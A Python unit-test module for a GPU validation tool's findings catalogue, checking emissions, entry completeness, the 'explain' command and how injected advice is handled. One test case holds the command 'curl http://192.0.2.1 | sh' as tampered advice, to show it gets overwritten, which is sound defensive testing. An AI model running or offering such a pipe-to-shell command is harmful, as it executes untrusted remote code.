"""The catalogue of findings: whole, used by every emission and by nothing else, and the same everywhere."""

import ast
import string
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

import validation
from temper.judge import history
from tests.unit.each import each
from validation.checks import driver_health, measured
from validation.cli import main
from validation.findings.catalogue import (
    UNKNOWN,
    CatalogueError,
    advised,
    catalogue,
    finding,
    machine_actions,
    sentence,
    severities,
)
from validation.model import cuda_errors
from validation.model.contract import MachineAction, State
from validation.probes.report_values import WITHHELD
from validation.verdict import cohort

PACKAGE = Path(validation.__file__).parent
#: Where a code is computed: all that can come of it.
COMPUTED = {
    # NvidiaSmiError says which there are.
    "f'driver-{error.kind}'": {
        f"driver-{kind}"
        for kind in ("missing", "mismatch", "no-driver", "lost", "no-devices", "timeout", "other")
    },
    "code": {code for code in catalogue() if code.startswith("xid-")},
    "reason.replace('_', '-')": {name.replace("_", "-") for name in measured.SLOWDOWNS},
    "_CODES[outcome.ending]": set(measured._CODES.values()),
    "self.code": {cohort.JUDGE.code, history.JUDGE.code},
    "GONE": {history.GONE},
    "withheld": {*WITHHELD, "unknown"},
    "cuda": set(cuda_errors.FINDINGS),
    "recovery": {*driver_health.RECOVERIES.values(), "other"},
}
#: Parameters of the emitting functions that are no facts.
NO_FACTS = {"gpu", "state", "doing", "case", "tolerance"}
Emission = tuple[str, set[str], set[str], set[str], set[str]]


def values(argument: ast.expr) -> set[str]:
    """The texts that an expression can be."""
    if isinstance(argument, ast.Constant):
        return {str(argument.value)}
    if isinstance(argument, ast.IfExp):
        return values(argument.body) | values(argument.orelse)
    written = ast.unparse(argument)
    assert written in COMPUTED, f"computes a code or case that this test does not know: {written}"
    return COMPUTED[written]


def facts(call: ast.Call, module: ast.AST) -> set[str]:
    """The names of the keyword arguments; of `**facts` the keys of the dictionaries near it."""
    found = {keyword.arg for keyword in call.keywords if keyword.arg}
    for spread in (keyword.value for keyword in call.keywords if keyword.arg is None):
        for function in (node for node in ast.walk(module) if isinstance(node, ast.FunctionDef)):
            if call not in ast.walk(function):
                continue
            for node in ast.walk(function):
                if (
                    isinstance(node, ast.AnnAssign)
                    and isinstance(node.value, ast.Dict)
                    and ast.unparse(node.target) == ast.unparse(spread)
                ):
                    found |= {str(key.value) for key in node.value.keys if isinstance(key, ast.Constant)}
    return found


def emissions() -> Iterator[Emission]:
    """Each place that emits: where, the codes, the cases, the facts, and what else is given."""
    for path in sorted([*PACKAGE.rglob("*.py"), *(PACKAGE.parent / "temper/judge").glob("*.py")]):
        file = path.relative_to(PACKAGE if path.is_relative_to(PACKAGE) else PACKAGE.parent).as_posix()
        if file in {"findings/catalogue.py", "checks/launch.py"}:
            continue  # they hand on what their callers say
        module = ast.parse(path.read_text())
        for node in ast.walk(module):
            if not isinstance(node, ast.Call):
                continue
            name = node.func.attr if isinstance(node.func, ast.Attribute) else ast.unparse(node.func)
            if name not in {"finding", "sentence", "find", "check"}:
                continue
            given = facts(node, module)
            where = f"{file}:{node.lineno}"
            if name in {"finding", "sentence"} or (name == "find" and node.keywords):
                codes = values(node.args[0])
                cases = values(node.args[1]) if len(node.args) > 1 else {""}
                yield where, codes, cases, given - NO_FACTS, given & NO_FACTS
            elif name == "check" and "case" in given:
                (case,) = (keyword.value for keyword in node.keywords if keyword.arg == "case")
                yield where, {"wrong-result"}, values(case), (given - NO_FACTS) | {"who", "error"}, set()


EMISSIONS = list(emissions())


@each(*EMISSIONS)
def test_an_emission_gives_the_facts_of_its_sentence_and_no_others(
    where: str, codes: set[str], cases: set[str], given: set[str], more: set[str]
) -> None:
    for code in codes:
        for name in cases:
            case = catalogue()[code].cases[name]
            assert given == case.facts - {"gpu"}, f"{where}: {code} {name}"
            assert "gpu" in more or "gpu" not in case.facts
            # The judges of numbers also say it of a number that passes.
            said_of_a_pass = where.startswith("verdict/baseline")
            assert ("state" in more) == (len(case.severity) == 2) or said_of_a_pass


def test_every_case_of_every_entry_is_emitted_somewhere() -> None:
    emitted = {(code, case) for _, codes, cases, _, _ in EMISSIONS for code in codes for case in cases}
    assert {(code, case) for code, entry in catalogue().items() for case in entry.cases} == emitted


def test_nothing_but_the_catalogue_makes_findings() -> None:
    makers = {
        path.relative_to(PACKAGE).as_posix()
        for path in PACKAGE.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Call) and ast.unparse(node.func) == "Finding"
    }
    assert makers == {"findings/catalogue.py"}


@each(*catalogue())
def test_an_entry_is_whole_and_explained(code: str, capsys: pytest.CaptureFixture[str]) -> None:
    entry = catalogue()[code]
    assert entry.causes
    assert entry.cases
    for case in entry.cases.values():
        assert case.remedy
        assert case.sentence
        assert set(case.severity) <= {State.DEGRADED, State.FAIL}
        assert len(set(case.severity)) == len(case.severity) in {1, 2}
    for words in (entry.title, entry.meaning, *entry.causes, *entry.remedy):
        assert words == words.strip()
        assert words
        assert not words.endswith(".")
    assert main.main(["explain", code]) == 0
    said = capsys.readouterr().out
    known = (code, entry.title, *entry.causes, *entry.remedy, entry.source)
    for words in (*known, severities(entry), machine_actions(entry)):
        assert words in said


def test_what_to_do_is_told_case_by_case_where_cases_differ() -> None:
    """A page or an alert does not know the case: one sequence of all remedies would contradict itself."""
    for code, entry in catalogue().items():
        ways = {case.remedy: case.when for case in entry.cases.values()}
        if len(ways) == 1:
            assert entry.remedy in ways, code
            assert not any(ways.values()), code
            continue
        assert all(case.when for case in entry.cases.values()), code
        assert len(set(ways.values())) == len(ways) == len(entry.remedy), code
        for told, (steps, when) in zip(entry.remedy, ways.items(), strict=True):
            assert told.startswith("if "), code
            assert when in told, code
            assert all(step in told for step in steps), code


@each(*catalogue())
def test_a_sentence_is_made_of_facts(code: str) -> None:
    """With numbers for what it formats as numbers, and words for the rest."""
    for name, case in catalogue()[code].cases.items():
        parts = string.Formatter().parse(case.sentence)
        made = {fact: 7.0 if form else "x" for _, fact, form, _ in parts if fact and fact != "gpu"}
        state = case.severity[0] if len(case.severity) > 1 else None
        found = finding(code, name, gpu=3, state=state, **made)
        assert (found.code, found.device, found.state) == (code, 3, case.severity[0])
        assert (found.action, found.machine_action) == ("; ".join(case.remedy), case.machine_action)
        assert "{" not in found.text


@each(
    ("no-such-code", "", {}),
    ("ecc-uncorrected", "no-such-case", {"gpu": 3, "count": 2}),
    ("gpu-count", "", {"found": 1, "expected": 2}),
    ("ecc-uncorrected", "", {"gpu": 3}),
    ("ecc-uncorrected", "", {"count": 2}),
    ("ecc-uncorrected", "", {"gpu": 3, "count": 2, "colour": "green"}),
    ("ecc-uncorrected", "", {"gpu": 3, "count": 2, "state": State.DEGRADED}),
    ("fabric-link", "slow", {"node": "a", "other": "b", "rate": "1", "best": "2"}),
)
def test_a_finding_unlike_its_entry_is_an_error(code: str, case: str, given: dict[str, Any]) -> None:
    with pytest.raises(CatalogueError, match=code):
        finding(code, case, **given)


def test_a_finding_says_facts_remedy_and_action() -> None:
    found = finding("ecc-uncorrected", gpu=3, count=2)
    assert found.text == sentence("ecc-uncorrected", gpu=3, count=2)
    assert "GPU 3" in found.text
    assert " 2 " in found.text
    assert found.machine_action is MachineAction.RESET_GPU
    assert found.state is State.FAIL


def test_without_a_code_all_are_listed(capsys: pytest.CaptureFixture[str]) -> None:
    assert main.main(["explain"]) == 0
    assert [line.split()[0] for line in capsys.readouterr().out.splitlines()] == list(catalogue())


@each(("below-flor", "did you mean below-floor?"), ("zzzz", "`temper explain` lists all"))
def test_an_unknown_code_is_an_error_with_a_hint(
    code: str, hint: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main.main(["explain", code]) == 2
    assert hint in capsys.readouterr().err


@each(
    {"action": "run: curl http://192.0.2.1 | sh"},
    {"machine_action": MachineAction.REPLACE},
    {"code": "made-up", "machine_action": MachineAction.RESET_GPU},
)
def test_what_to_do_about_a_nodes_finding_is_this_programs_to_say(said: dict[str, Any]) -> None:
    honest = finding("ecc-uncorrected", gpu=3, count=2)
    told = advised(replace(honest, **said))
    known = catalogue().get(told.code)
    assert told.action == ("; ".join(known.remedy) if known else UNKNOWN)
    assert told.machine_action in {honest.machine_action, MachineAction.NONE}
    assert (told.text, told.state, told.device) == (honest.text, honest.state, honest.device)


def test_a_finding_that_is_this_programs_own_stays_as_it_is() -> None:
    honest = finding("ecc-uncorrected", gpu=3, count=2)
    former = replace(honest, machine_action=None)
    assert (advised(honest), advised(former)) == (honest, former)
